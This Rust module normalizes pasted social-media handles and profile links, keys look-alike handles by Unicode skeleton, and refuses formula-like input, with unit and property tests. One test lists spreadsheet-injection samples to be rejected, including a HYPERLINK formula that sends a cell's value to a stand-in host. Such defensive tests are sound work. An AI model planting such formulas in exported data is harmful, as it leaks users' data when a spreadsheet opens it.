//! Handles the way people paste them (`@name`, `name`, profile links) reduced to the one form
//! the roster stores and compares, with the platform a link names.

use unicode_normalization::UnicodeNormalization;

use super::model::Platform;
use crate::i18n::{msg, owner};
use crate::text::strip_bidi_controls;

/// A handle reduced to the form stored and compared: lower case, no `@`, no URL.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct NormalizedHandle {
    /// The platform the input named, when it was a profile URL.
    pub platform: Option<Platform>,
    pub handle: String,
}

const PLATFORM_HOSTS: &[(&str, Platform)] = &[
    ("instagram.com", Platform::Instagram),
    ("instagr.am", Platform::Instagram),
    ("tiktok.com", Platform::Tiktok),
    ("youtube.com", Platform::Youtube),
    ("youtu.be", Platform::Youtube),
];

/// Normalizes `@name`, `name`, `instagram.com/name/`, `https://www.tiktok.com/@name?lang=en`
/// and `youtube.com/@name` to `name`. Handles on other platforms keep their site
/// (`twitch.tv/name`) so that two sites' `name` stay different people. Text-direction marks
/// are dropped; what starts like a spreadsheet formula is refused. A refusal says why in a
/// whole sentence, in the owner's language.
pub fn normalize_handle(input: &str) -> Result<NormalizedHandle, String> {
    let stripped = strip_bidi_controls(input);
    let t = stripped.trim();
    if t.is_empty() {
        return Err(msg::error_handle_empty(owner()));
    }
    if t.trim_start_matches('@').starts_with(['=', '+', '-', '@']) {
        return Err(msg::error_handle_formula(owner()));
    }
    let lower = t.to_lowercase();
    let without_scheme = lower
        .strip_prefix("https://")
        .or_else(|| lower.strip_prefix("http://"))
        .unwrap_or(&lower);
    if let Some(id) = t.strip_prefix("channel/") {
        return Ok(NormalizedHandle {
            platform: Some(Platform::Youtube),
            handle: format!("channel/{}", check_chars(id)?),
        });
    }
    let looks_like_url = without_scheme.contains('/');
    if looks_like_url && !without_scheme.starts_with('@') {
        return from_link(t, without_scheme);
    }
    let name = without_scheme.trim_start_matches('@');
    Ok(NormalizedHandle {
        platform: None,
        handle: check_chars(name)?,
    })
}

/// The key two handles are told apart by: the handle folded by NFKC (fullwidth `ｚｏｅ` is
/// `zoe`), lower-cased, then reduced to its Unicode confusables skeleton (UTS #39), so that
/// `zoe.eats` with a Cyrillic `о` or a Greek `ο` has the key of `zoe.eats`. Only compared,
/// never shown: the roster keeps the handle as typed.
pub fn handle_key(handle: &str) -> String {
    let folded = handle.nfkc().collect::<String>().to_lowercase();
    unicode_security::skeleton(&folded).collect()
}

/// A profile link: `t` as typed (channel ids keep their case), `without_scheme` lower-cased.
fn from_link(t: &str, without_scheme: &str) -> Result<NormalizedHandle, String> {
    let without_www = without_scheme
        .strip_prefix("www.")
        .or_else(|| without_scheme.strip_prefix("m."))
        .unwrap_or(without_scheme);
    let (host, path) = without_www.split_once('/').unwrap_or((without_www, ""));
    let path = path.split(['?', '#']).next().unwrap_or("");
    let segments: Vec<&str> = path
        .split('/')
        .map(str::trim)
        .filter(|s| !s.is_empty())
        .collect();
    if let Some((_, platform)) = PLATFORM_HOSTS.iter().find(|(h, _)| *h == host) {
        let name = match (platform, segments.as_slice()) {
            (Platform::Youtube, ["c" | "user", name, ..]) => *name,
            (Platform::Youtube, ["channel", id, ..]) => {
                // Channel ids are case-sensitive; keep them as typed.
                let original = t.split("channel/").nth(1).unwrap_or(id);
                let id = original.split(['/', '?', '#']).next().unwrap_or(id);
                return Ok(NormalizedHandle {
                    platform: Some(Platform::Youtube),
                    handle: format!("channel/{}", check_chars(id)?),
                });
            }
            (_, [name, ..]) => *name,
            (_, []) => return Err(msg::error_handle_site_link(owner())),
        };
        let name = name.trim_start_matches('@');
        return Ok(NormalizedHandle {
            platform: Some(*platform),
            handle: check_chars(name)?,
        });
    }
    // Another site: a host like example.com (no empty labels, no spaces) and a path.
    let is_host = host.contains('.')
        && host.split('.').all(|label| {
            !label.is_empty() && label.chars().all(|c| c.is_alphanumeric() || c == '-')
        });
    if is_host && !segments.is_empty() && !segments.iter().any(|s| s.contains(char::is_whitespace))
    {
        let joined = format!("{host}/{}", segments.join("/"));
        if joined.len() > 200 {
            return Err(msg::error_handle_link_too_long(owner()));
        }
        return Ok(NormalizedHandle {
            platform: None,
            handle: joined,
        });
    }
    Err(msg::ErrorHandleUnreadable { text: t.into() }.text(owner()))
}

/// A bare name as stored, or why it cannot be one. Its characters are checked in their NFKC
/// form, so a fullwidth `ｚｏｅ．ｅａｔｓ` passes as `zoe.eats` would, and is kept as typed.
fn check_chars(name: &str) -> Result<String, String> {
    if name.is_empty() {
        return Err(msg::error_handle_empty(owner()));
    }
    if name.chars().count() > 100 {
        return Err(msg::error_handle_too_long(owner()));
    }
    if name
        .nfkc()
        .next()
        .is_some_and(|c| matches!(c, '=' | '+' | '-' | '@'))
    {
        return Err(msg::error_handle_formula(owner()));
    }
    if let Some(bad) = name
        .nfkc()
        .find(|c| !(c.is_alphanumeric() || matches!(c, '.' | '_' | '-')))
    {
        return Err(msg::ErrorHandleCharacters {
            found: bad.to_string().into(),
        }
        .text(owner()));
    }
    Ok(name.to_string())
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn handles_in_every_form_mean_the_same_handle() {
        for text in [
            "zoe.eats",
            "@zoe.eats",
            "@Zoe.Eats",
            " zoe.eats ",
            "instagram.com/zoe.eats",
            "https://www.instagram.com/zoe.eats/",
            "http://instagram.com/zoe.eats?igsh=abc",
            "https://www.tiktok.com/@zoe.eats?lang=en",
            "youtube.com/@zoe.eats",
            "https://m.youtube.com/c/zoe.eats",
        ] {
            assert_eq!(normalize_handle(text).unwrap().handle, "zoe.eats", "{text}");
        }
        assert_eq!(
            normalize_handle("https://www.tiktok.com/@zoe")
                .unwrap()
                .platform,
            Some(Platform::Tiktok)
        );
        assert_eq!(
            normalize_handle("https://www.youtube.com/channel/UCabcDEF").unwrap(),
            NormalizedHandle {
                platform: Some(Platform::Youtube),
                handle: "channel/UCabcDEF".into()
            }
        );
        assert_eq!(
            normalize_handle("https://twitch.tv/ZoeLive")
                .unwrap()
                .handle,
            "twitch.tv/zoelive"
        );
        assert_eq!(
            normalize_handle("@núñez_café").unwrap().handle,
            "núñez_café"
        );
    }

    #[test]
    fn bad_handles_are_refused_with_a_reason() {
        for text in [
            "",
            "@",
            "zoe eats",
            "<script>",
            "instagram.com/",
            "zoe/eats",
        ] {
            assert!(normalize_handle(text).is_err(), "{text}");
        }
    }

    #[test]
    fn what_a_spreadsheet_would_run_is_not_a_handle() {
        for text in [
            r#"=HYPERLINK(CONCAT("evil.example/",A2,"/x"),"open")"#,
            "=1+1",
            "+491701234",
            "-zoe",
            "@=cmd",
            "@@-x",
            "＝1+1",
            "evil(1).example/zoe",
        ] {
            assert!(normalize_handle(text).is_err(), "{text}");
        }
        assert!(normalize_handle("=1+1").unwrap_err().contains("formula"));
    }

    #[test]
    fn look_alike_handles_share_one_key_and_keep_their_spelling() {
        let key = handle_key("zoe.eats");
        for look_alike in [
            "z\u{43e}e.eats",                                                   // Cyrillic о
            "z\u{3bf}e.eats",                                                   // Greek ο
            "\u{ff5a}\u{ff4f}\u{ff45}.\u{ff45}\u{ff41}\u{ff54}\u{ff53}",        // fullwidth
            "\u{ff3a}\u{ff2f}\u{ff25}\u{ff0e}\u{ff25}\u{ff21}\u{ff34}\u{ff33}", // fullwidth capitals and dot
        ] {
            let typed = normalize_handle(look_alike).unwrap().handle;
            assert_ne!(typed, "zoe.eats", "the handle is kept as typed");
            assert_eq!(handle_key(&typed), key, "{look_alike}");
        }
        assert_ne!(handle_key("zoe.bakes"), key);
    }

    #[test]
    fn text_direction_marks_are_dropped_from_handles() {
        assert_eq!(
            normalize_handle("\u{200F}@zoe\u{202E}.eats\u{2069}")
                .unwrap()
                .handle,
            "zoe.eats"
        );
    }

    proptest! {
        #[test]
        fn handle_normalizer_never_panics_and_is_idempotent(s in "\\PC{0,60}") {
            if let Ok(first) = normalize_handle(&s) {
                let again = normalize_handle(&first.handle).expect("a normalized handle stays valid");
                prop_assert_eq!(again.handle, first.handle);
            }
        }

        #[test]
        fn at_plain_and_url_forms_agree(name in "[a-z0-9_][a-z0-9_.]{0,20}") {
            let plain = normalize_handle(&name).unwrap().handle;
            prop_assert_eq!(&normalize_handle(&format!("@{name}")).unwrap().handle, &plain);
            prop_assert_eq!(&normalize_handle(&format!("https://www.instagram.com/{name}/")).unwrap().handle, &plain);
            prop_assert_eq!(&normalize_handle(&format!("https://www.tiktok.com/@{name}")).unwrap().handle, &plain);
        }
    }
}
